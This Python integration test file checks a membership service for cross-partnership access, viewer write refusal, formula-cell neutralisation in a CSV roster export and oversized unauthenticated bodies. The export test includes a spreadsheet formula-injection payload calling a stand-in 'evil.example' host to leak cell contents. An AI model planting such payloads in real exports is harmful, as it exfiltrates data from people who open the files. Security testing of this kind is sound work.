"""Issue 16's membership findings, tried as an attacker would against the real service process:
a partnership admin reaching another partnership's contacts and organisations, a viewer
writing, formula cells in the roster export, and 50 MB bodies without a key."""

import asyncio
import csv
import io
import re
from pathlib import Path

import httpx
import pytest

from shared.spreadsheet import FORMULA_STARTS

pytestmark = pytest.mark.integration

OPERATOR = "isolation-operator-key"
A, B = "sw-mp", "nw-mp"


def api(service, key: str) -> httpx.AsyncClient:
    return httpx.AsyncClient(base_url=service.url, headers={"Authorization": f"Bearer {key}"}, timeout=30)


async def issued(operator: httpx.AsyncClient, service, role: str, partnership: str) -> httpx.AsyncClient:
    """A client with a key the operator issued through POST /keys, once the key ring knows it."""
    answer = await operator.post("/keys", json={"label": f"{role} of {partnership}", "role": role,
                                                "partnership_ids": [partnership]})
    assert answer.status_code == 201, answer.text
    client = api(service, answer.json()["secret"])
    deadline = asyncio.get_running_loop().time() + 30
    while (await client.get("/whoami")).status_code != 200:
        assert asyncio.get_running_loop().time() < deadline, "the key ring did not learn the key"
        await asyncio.sleep(0.3)
    return client


@pytest.fixture
def membership(start_service):
    return start_service("membership", {"BACKBONE_AUTH_OPERATOR_KEY": OPERATOR})


@pytest.fixture
async def operator(membership):
    """Two partnerships; `acme` and `bolt` are members of B only, `own` of A only."""
    async with api(membership, OPERATOR) as client:
        for path, body in (("/regions", {"id": "ct", "name": "Connecticut", "state": "CT"}),
                           ("/sectors", {"id": "mfg", "name": "Manufacturing"}),
                           ("/partnerships", {"id": A, "name": "A", "region_id": "ct", "sector_id": "mfg"}),
                           ("/partnerships", {"id": B, "name": "B", "region_id": "ct", "sector_id": "mfg"}),
                           ("/organisations", {"id": "acme", "name": "Acme", "kind": "employer"}),
                           ("/organisations", {"id": "bolt", "name": "Bolt", "kind": "employer"}),
                           ("/organisations", {"id": "own", "name": "Own", "kind": "employer"}),
                           (f"/partnerships/{B}/members", {"organisation_id": "acme", "joined_on": "2024-01-01"}),
                           (f"/partnerships/{B}/members", {"organisation_id": "bolt", "joined_on": "2024-01-01"}),
                           (f"/partnerships/{A}/members", {"organisation_id": "own", "joined_on": "2024-01-01"})):
            assert (await client.post(path, json=body)).status_code == 201, path
        yield client


async def test_an_admin_reaches_no_other_partnerships_contacts_or_organisations(membership, operator):
    admin_a, admin_b = await issued(operator, membership, "partnership_admin", A), \
        await issued(operator, membership, "partnership_admin", B)
    contact = {"id": "c-b", "name": "Bea Example", "email": "bea@example.org", "consent": True}
    assert (await admin_b.post("/organisations/acme/contacts", json=contact)).status_code == 201

    # joining B's organisation to A is allowed (that is how organisations are shared) ...
    joined = await admin_a.post(
        f"/partnerships/{A}/members", json={"organisation_id": "acme", "joined_on": "2024-02-01"}
    )
    assert joined.status_code == 201
    # ... but B's contacts stay B's
    listed = await admin_a.get("/organisations/acme/contacts")
    assert listed.status_code in (200, 403, 404) and "Bea" not in listed.text
    assert (await admin_a.get("/contacts/c-b")).status_code in (403, 404)
    assert (await admin_a.patch("/contacts/c-b", json={"email": "mine@evil.example"})).status_code in (403, 404)
    assert (await admin_b.get("/contacts/c-b")).json()["email"] == "bea@example.org"

    # an organisation only in B, or shared by A and B, is renamed by operators only
    assert (await admin_a.patch("/organisations/bolt", json={"name": "Pwned"})).status_code == 403
    assert (await admin_a.patch("/organisations/acme", json={"name": "Pwned"})).status_code == 403
    assert "Pwned" not in (await admin_b.get(f"/partnerships/{B}/roster.csv")).text
    assert (await admin_a.patch("/organisations/own", json={"name": "Own Ltd"})).status_code == 200
    assert (await operator.patch("/organisations/acme", json={"name": "Acme Inc."})).status_code == 200


async def test_the_roster_export_neutralises_formula_cells(membership, operator):
    name = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
    assert (await operator.patch("/organisations/own", json={"name": name, "county": "-2+3"})).status_code == 200
    exported = await operator.get(f"/partnerships/{A}/roster.csv")
    cells = [cell for row in csv.reader(io.StringIO(exported.text)) for cell in row]
    assert "'" + name in cells and "'-2+3" in cells
    assert not [cell for cell in cells if cell.startswith(FORMULA_STARTS)]


# A valid body for every write operation, so a refusal is the viewer's and not the body's.
WRITES = {
    ("POST", "/regions"): {"id": "r2", "name": "R2", "state": "CT"},
    ("PUT", "/regions/{id}"): {"id": "ct", "name": "Connecticut", "state": "CT"},
    ("POST", "/sectors"): {"id": "s2", "name": "S2"},
    ("PUT", "/sectors/{id}"): {"id": "mfg", "name": "Manufacturing"},
    ("POST", "/partnerships"): {"id": "p2", "name": "P2", "region_id": "ct", "sector_id": "mfg"},
    ("PATCH", "/partnerships/{partnership_id}"): {"name": "Renamed"},
    ("PUT", "/partnerships/{partnership_id}/targets"): {"kpi": "hires", "period": "PY2025", "value": 1},
    ("DELETE", "/partnerships/{partnership_id}/targets/{kpi}/{period}"): None,
    ("POST", "/organisations"): {"id": "o2", "name": "O2", "kind": "employer"},
    ("PATCH", "/organisations/{organisation_id}"): {"name": "Renamed"},
    ("POST", "/organisations/{organisation_id}/contacts"): {"id": "c2", "name": "No One"},
    ("PATCH", "/contacts/{contact_id}"): {"name": "Renamed"},
    ("POST", "/partnerships/{partnership_id}/members"): {"organisation_id": "acme", "joined_on": "2024-01-01"},
    ("POST", "/partnerships/{partnership_id}/members/{membership_id}/leave"): {"left_on": "2025-01-01"},
    ("POST", "/partnerships/{partnership_id}/action-teams"): {"id": "t2", "name": "T2"},
    ("PATCH", "/partnerships/{partnership_id}/action-teams/{team_id}"): {"name": "Renamed"},
    ("POST", "/partnerships/{partnership_id}/roster"): "organisation_id,name,kind,joined_on\n",
    ("POST", "/keys"): {"label": "k", "role": "viewer", "partnership_ids": [A]},
    ("DELETE", "/keys/{key_id}"): None,
}
IDS = {"id": "ct", "partnership_id": A, "organisation_id": "own", "contact_id": "c-a", "team_id": "team",
       "membership_id": f"{A}:own:2024-01-01", "key_id": "k", "kpi": "hires", "period": "PY2025"}


async def test_a_viewer_reads_its_partnership_and_changes_nothing(membership, operator):
    assert (
        await operator.post("/organisations/own/contacts", json={"id": "c-a", "name": "Al", "partnership_id": A})
    ).status_code == 201
    assert (
        await operator.post(f"/partnerships/{A}/action-teams", json={"id": "team", "name": "Team"})
    ).status_code == 201
    viewer = await issued(operator, membership, "viewer", A)
    for path in (f"/partnerships/{A}", f"/partnerships/{A}/members", f"/partnerships/{A}/action-teams/team",
                 f"/partnerships/{A}/roster.csv", "/organisations/own"):
        assert (await viewer.get(path)).status_code == 200, path
    for path in ("/organisations/own/contacts", "/contacts/c-a", "/keys", f"/partnerships/{B}", "/organisations/acme"):
        assert (await viewer.get(path)).status_code == 403, path

    spec = (await operator.get("/openapi.json")).json()
    writes = {(m.upper(), p) for p, ms in spec["paths"].items() for m in ms if m != "get"}
    assert writes == set(WRITES), "a new write operation needs a case here"
    for (method, path), body in WRITES.items():
        url = re.sub(r"\{(\w+)\}", lambda m: IDS[m.group(1)], path)
        sent = {"content": body, "headers": {"content-type": "text/csv"}} if isinstance(body, str) else \
            {"json": body} if body is not None else {}
        answer = await viewer.request(method, url, **sent)
        assert answer.status_code == 403, f"{method} {path}: {answer.status_code} {answer.text[:200]}"
    assert (await viewer.get(f"/partnerships/{A}")).json()["name"] == "A"


def _rss_kib(pid: int) -> int:
    status = Path(f"/proc/{pid}/status").read_text()
    return int(re.search(r"VmRSS:\s+(\d+) kB", status).group(1))


async def test_a_50_mb_body_without_a_key_is_refused_before_it_is_read(membership):
    before = _rss_kib(membership.process.pid)
    body = b"x" * (50 * 1024 * 1024)
    async with httpx.AsyncClient(base_url=membership.url, timeout=60) as anonymous:
        for path in ("/organisations", f"/partnerships/{A}/roster", "/keys"):
            answer = await anonymous.post(path, content=body, headers={"content-type": "application/json"})
            assert answer.status_code in (401, 413), f"{path}: {answer.status_code}"
    assert _rss_kib(membership.process.pid) - before < 20 * 1024
